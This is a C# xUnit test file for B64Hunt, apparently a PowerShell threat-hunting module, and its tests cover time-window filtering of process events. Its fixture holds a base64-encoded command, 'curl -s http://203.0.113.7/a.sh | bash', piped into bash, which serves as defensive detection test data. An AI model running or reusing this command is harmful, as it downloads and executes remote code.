using System;
using System.Globalization;
using System.IO;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using B64Hunt.Commands;
using B64Hunt.Model;
using B64Hunt.Sources;
using Xunit;

namespace B64Hunt.Tests.Commands
{
    /// <summary>-Start/-End/-Last filter events by time for files, the sample and the pipeline, not only for a workspace.</summary>
    public sealed class GetB64CommandTimeWindowTests : IDisposable
    {
        // "curl -s http://203.0.113.7/a.sh | bash", once per row; the rows differ by time (and one has none).
        private const string Payload = "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash";
        private readonly string _dir = Path.Combine(Path.GetTempPath(), "b64hunt-window-" + Guid.NewGuid().ToString("N"));

        public GetB64CommandTimeWindowTests() => Directory.CreateDirectory(_dir);

        public void Dispose() => Directory.Delete(_dir, true);

        private string Csv(params string?[] times)
        {
            var path = Path.Combine(_dir, "DeviceProcessEvents.csv");
            File.WriteAllLines(path, new[] { "TimeGenerated,DeviceName,ProcessCommandLine" }
                .Concat(times.Select((t, i) => $"{t},host{i},\"{Payload}\"")));
            return path;
        }

        private static PowerShell Shell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            return PowerShell.Create(iss);
        }

        private static DateTime Utc(string text) => DateTime.Parse(text, CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal | DateTimeStyles.AssumeUniversal);

        private static string[] Hosts(PowerShell ps) => ps.Invoke().Select(o => ((CommandEvent)o.BaseObject).Computer!).ToArray();

        [Theory]
        [InlineData("Get-B64Command", "Path")]
        [InlineData("Get-B64Command", "WorkspaceId")]
        [InlineData("Get-B64RelatedAlert", "Path")]
        [InlineData("Get-B64RelatedAlert", "WorkspaceId")]
        [InlineData("Get-B64Command", "WorkspaceId-reversed")]
        public void AWindowThatCannotBeIsInvalidTimeWindowInEveryCmdletAndSet(string cmdlet, string set)
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64RelatedAlert", typeof(GetB64RelatedAlertCommand), null));
            using var ps = PowerShell.Create(iss);
            ps.AddCommand(cmdlet);
            if (set == "Path") ps.AddParameter("Path", Csv("2024-05-01T10:00:00Z"));
            else ps.AddParameter("WorkspaceId", Guid.NewGuid()).AddParameter("AccessToken", "t").AddParameter("Endpoint", new Uri("http://127.0.0.1:9/"));
            if (cmdlet == "Get-B64RelatedAlert" && set != "Path") ps.AddParameter("Computer", "web1");
            if (set.EndsWith("reversed")) ps.AddParameter("Start", Utc("2024-05-03T00:00:00Z")).AddParameter("End", Utc("2024-05-01T00:00:00Z"));
            else ps.AddParameter("Start", Utc("2024-05-01T00:00:00Z")).AddParameter("Last", TimeSpan.FromDays(1));

            var record = Assert.ThrowsAny<RuntimeException>(() => ps.Invoke()).ErrorRecord;

            Assert.StartsWith("InvalidTimeWindow,", record.FullyQualifiedErrorId);
            Assert.Equal(ErrorCategory.InvalidArgument, record.CategoryInfo.Category);
        }

        [Fact]
        public void PathWithStartAndEndKeepsTheEventsInsideStartInclusiveEndExclusive()
        {
            var file = Csv("2024-05-01T10:00:00Z", "2024-05-02T10:00:00Z", "2024-05-02T23:59:59Z", "2024-05-03T10:00:00Z");
            using var ps = Shell();
            ps.AddCommand("Get-B64Command").AddParameter("Path", file)
              .AddParameter("Start", Utc("2024-05-02T10:00:00Z")).AddParameter("End", Utc("2024-05-03T10:00:00Z"));
            Assert.Equal(new[] { "host1", "host2" }, Hosts(ps));
            Assert.False(ps.HadErrors);
        }

        [Fact]
        public void WithoutAWindowEveryEventComesOutEvenThoseWithoutATime()
        {
            var file = Csv("2024-05-01T10:00:00Z", "", "2026-01-01T00:00:00Z");
            using var ps = Shell();
            ps.AddCommand("Get-B64Command").AddParameter("Path", file);
            Assert.Equal(new[] { "host0", "host1", "host2" }, Hosts(ps));
            Assert.Empty(ps.Streams.Warning);
        }

        [Fact]
        public void LastCountsBackFromNowAndEventsWithoutATimeAreLeftOutWithAWarning()
        {
            var now = DateTime.UtcNow;
            var file = Csv(now.AddHours(-2).ToString("O"), now.AddDays(-3).ToString("O"), "");
            using var ps = Shell();
            ps.AddCommand("Get-B64Command").AddParameter("Path", file).AddParameter("Last", TimeSpan.FromDays(1)).AddParameter("Verbose", true);
            Assert.Equal(new[] { "host0" }, Hosts(ps));
            var warning = Assert.Single(ps.Streams.Warning);
            Assert.Contains("1 command record(s) have no time", warning.Message);
            Assert.Contains(ps.Streams.Verbose, v => v.Message.Contains("1 command record(s) outside it, 1 without a time"));
        }

        [Fact]
        public void SampleAcceptsAWindowInsteadOfAmbiguousParameterSet()
        {
            using var all = Shell();
            var every = all.AddCommand("Get-B64Command").AddParameter("Sample", true).Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            var times = every.Select(e => e.TimeGenerated!.Value).OrderBy(t => t).ToList();
            var start = times[times.Count / 3];
            var end = times[2 * times.Count / 3];

            using var ps = Shell();
            var inside = ps.AddCommand("Get-B64Command").AddParameter("Sample", true).AddParameter("Start", start).AddParameter("End", end)
                .Invoke().Select(o => (CommandEvent)o.BaseObject).ToList();
            // The sample's deliberately malformed lines are reported as before; the window adds no error.
            Assert.Equal(all.Streams.Error.Select(e => e.FullyQualifiedErrorId).Distinct(), ps.Streams.Error.Select(e => e.FullyQualifiedErrorId).Distinct());
            Assert.NotEmpty(inside);
            Assert.All(inside, e => Assert.InRange(e.TimeGenerated!.Value, start, end.AddTicks(-1)));
            Assert.Equal(every.Count(e => e.TimeGenerated >= start && e.TimeGenerated < end), inside.Count);
        }

        [Fact]
        public void PipedCommandLinesAreFilteredByTheirTimeGenerated()
        {
            using var ps = Shell();
            ps.AddScript($@"
                [pscustomobject]@{{ ProcessCommandLine = '{Payload}'; DeviceName = 'old';   Timestamp = '2024-04-01T00:00:00Z' }},
                [pscustomobject]@{{ ProcessCommandLine = '{Payload}'; DeviceName = 'in';    Timestamp = '2024-05-02T08:00:00Z' }},
                [pscustomobject]@{{ ProcessCommandLine = '{Payload}'; DeviceName = 'after'; Timestamp = '2024-06-01T00:00:00Z' }} |
                    Get-B64Command -Start '2024-05-01T00:00:00Z' -End '2024-05-03T00:00:00Z'");
            Assert.Equal(new[] { "in" }, Hosts(ps));
        }

        [Theory]
        [InlineData("2024-05-01T00:00:00Z", null, "1.00:00:00")]
        [InlineData("2024-05-02T00:00:00Z", "2024-05-01T00:00:00Z", null)]
        public void StartWithLastOrAnEmptyWindowIsAClearError(string start, string? end, string? last)
        {
            var file = Csv("2024-05-01T10:00:00Z");
            using var ps = Shell();
            ps.AddCommand("Get-B64Command").AddParameter("Path", file).AddParameter("Start", Utc(start));
            if (end != null) ps.AddParameter("End", Utc(end));
            if (last != null) ps.AddParameter("Last", TimeSpan.Parse(last, CultureInfo.InvariantCulture));
            var ex = Assert.ThrowsAny<RuntimeException>(() => ps.Invoke());
            Assert.StartsWith("InvalidTimeWindow", ex.ErrorRecord.FullyQualifiedErrorId);
        }

        [Theory]
        [InlineData(null, null, null, null, null)]
        [InlineData("2024-05-02T00:00:00Z", null, null, "2024-05-02T00:00:00Z", null)]
        [InlineData(null, "2024-05-02T00:00:00Z", null, null, "2024-05-02T00:00:00Z")]
        [InlineData(null, "2024-05-02T00:00:00Z", "1.00:00:00", "2024-05-01T00:00:00Z", "2024-05-02T00:00:00Z")]
        public void TheWindowHasOpenBoundsWhereNoneIsGiven(string? start, string? end, string? last, string? expectedStart, string? expectedEnd)
        {
            var window = EventTimeWindow.Resolve(start == null ? null : Utc(start), end == null ? null : Utc(end),
                last == null ? null : TimeSpan.Parse(last, CultureInfo.InvariantCulture), Utc("2026-12-02T00:00:00Z"));
            if (expectedStart == null && expectedEnd == null && last == null && start == null && end == null)
            {
                Assert.Null(window);
                return;
            }
            Assert.Equal(expectedStart == null ? (DateTime?)null : Utc(expectedStart), window!.Start);
            Assert.Equal(expectedEnd == null ? (DateTime?)null : Utc(expectedEnd), window.End);
            Assert.False(window.Contains(null));
        }
    }
}
